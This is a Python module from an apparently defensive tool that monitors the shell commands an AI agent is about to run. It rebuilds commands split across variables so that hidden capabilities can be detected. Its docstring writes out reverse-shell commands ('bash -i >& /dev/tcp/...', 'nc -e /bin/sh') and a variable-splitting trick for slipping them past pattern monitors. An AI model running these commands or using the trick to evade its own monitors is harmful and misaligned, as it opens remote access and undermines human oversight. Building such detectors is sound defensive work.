"""A command line spelled out of variables: short literals assigned, then run glued together.

A command that would be read at once (`bash -i >& /dev/tcp/HOST/PORT 0>&1`, `nc -e /bin/sh`)
is cut into literals kept in variables and put back together where it runs: `a=ba;b=sh;
c=/dev/tc;d=p/HOST/443;$a$b -i >& $c$d 0>&1`. No pattern reads the pieces; the shell joins
them. The line is read again with every variable it assigned a literal to replaced by that
literal (the assignments themselves dropped), and what that spelled-out line does is what the
command does. Only a line that glues two variables together (`$a$b`, `${x}${y}`, `"$a""$b"`,
the quotes then dropped where they protect nothing) is read so: an ordinary script names its
settings one at a time (`DEST=/srv/www; rsync -a site/ $DEST`), and spelled out it reads
exactly as it did. The line is cut into its statements and its expansions are found as the
shell reads it (`shell.simple_commands`, `shell.variable_expansions`): a `;` inside a quoted
value ends no assignment, and `'$a$b'` in single quotes expands nothing.

Read on the whole command line an agent is about to run, never on a response's text (the
stream monitor does not scan for them): `spliced_hits`.
"""

from __future__ import annotations

import re
from itertools import pairwise

from redline.redlines.capabilities import Capability, Hit
from redline.redlines.shell import simple_commands, variable_expansions

_GLUED = re.compile(r"\$\{?[A-Za-z_]\w*\}?\"{0,2}\$\{?[A-Za-z_]")
"""Two variables expanded side by side, bare or quoted (`$a$b`, `"$a""$b"`): the shell joins
their values into one word. Read on the text first (a cheap test), then on the expansions the
shell makes (none inside single quotes)."""
_ASSIGNED = re.compile(r"([A-Za-z_]\w*)=")
_STATEMENT_END = re.compile(r"\s*(?:;|&&|\n|$)")
"""What ends an assignment that is a statement of its own (`a=ba;`, `d="p/1.2.3.4/443" &&`)."""
_MAX_LENGTH = 20_000
"""The longest line spelled out (the reading is linear in the line; any number of assignments,
dummies among them, is read)."""
_JOINED_QUOTES = re.compile(r'(?<=[^\s"])""(?=[^\s"])')
"""Two quoted words side by side (`"ba""sh"`): one word to the shell."""
_PLAIN_QUOTED = re.compile(r'"([^"\s$`\\;&|<>()*?]*)"')
"""A quoted word with nothing the quotes protect: the same word bare."""


def _literal_assignments(action: str) -> tuple[dict[str, str], list[tuple[int, int]]]:
    """The variables given a literal (no expansion, no substitution) by an assignment that is
    a statement of its own, with their values as the shell reads them, and the spans of those
    statements (their `;`, `&&` or line break included); the line cut as the shell cuts it."""
    values: dict[str, str] = {}
    spans: list[tuple[int, int]] = []
    for command in simple_commands(action):
        if len(command.words) != 1 or command.words[0].start != command.start:
            continue
        raw = action[command.start : command.end]
        assigned = _ASSIGNED.match(raw)
        if assigned is None:
            continue
        value = raw[assigned.end() :]
        quoted = len(value) >= 2 and value[0] == value[-1] == "'" and "'" not in value[1:-1]
        if not quoted and ("$" in value or "`" in value):
            continue  # a value the shell computes: not a literal
        before = command.start
        while before > 0 and action[before - 1] in " \t":
            before -= 1
        if before > 0 and action[before - 1] not in ";&|\n":
            continue  # (inside a group or a substitution: not a statement of the line)
        end = _STATEMENT_END.match(action, command.end)
        if end is None:
            continue  # (piped, run in the background, or a command's environment)
        values[assigned.group(1)] = command.words[0].value[assigned.end() :]
        spans.append((command.start, end.end()))
    return values, spans


def spelled_out(action: str) -> str | None:
    """`action` with the literals its variables were assigned put where they are expanded and
    the assignments dropped, when it glues two variables together; otherwise None."""
    if "$" not in action or len(action) > _MAX_LENGTH or _GLUED.search(action) is None:
        return None
    expansions = variable_expansions(action)
    if not any(
        action[end:start] in ("", '"', '""') for (_, end, _), (start, _, _) in pairwise(expansions)
    ):
        return None
    values, spans = _literal_assignments(action)
    if len(values) < 2:
        return None
    # the line less those statements, each piece with the literals put in, pieces joined
    pieces: list[tuple[int, int]] = []
    cursor = 0
    for start, end in [*spans, (len(action), len(action))]:
        pieces.append((cursor, start))
        cursor = end
    parts: list[str] = []
    replaced = False
    index = 0
    for low, high in pieces:
        out: list[str] = []
        cursor = low
        while index < len(expansions) and expansions[index][0] < high:
            start, end, name = expansions[index]
            index += 1
            if start >= low and name in values:
                out.append(action[cursor:start] + values[name])
                cursor, replaced = end, True
        part = ("".join(out) + action[cursor:high]).strip()
        if part:
            parts.append(part)
    if not replaced:
        return None
    return _PLAIN_QUOTED.sub(r"\1", _JOINED_QUOTES.sub("", " ".join(parts)))


def spliced_hits(action: str, found: set[Capability]) -> list[Hit]:
    """Capabilities of `action` spelled out (`spelled_out`) that the line as written does not
    show (`found`), each cited over the whole line."""
    spelled = spelled_out(action)
    if spelled is None:
        return []
    from redline.redlines.code import code_hits
    from redline.redlines.grammars import CodeLanguage

    start = len(action) - len(action.lstrip())
    end = len(action.rstrip())
    return [
        Hit(hit.capability, start, end, action[start:end])
        for hit in code_hits(spelled, CodeLanguage.BASH, 0, 1)
        if hit.capability not in found
    ]
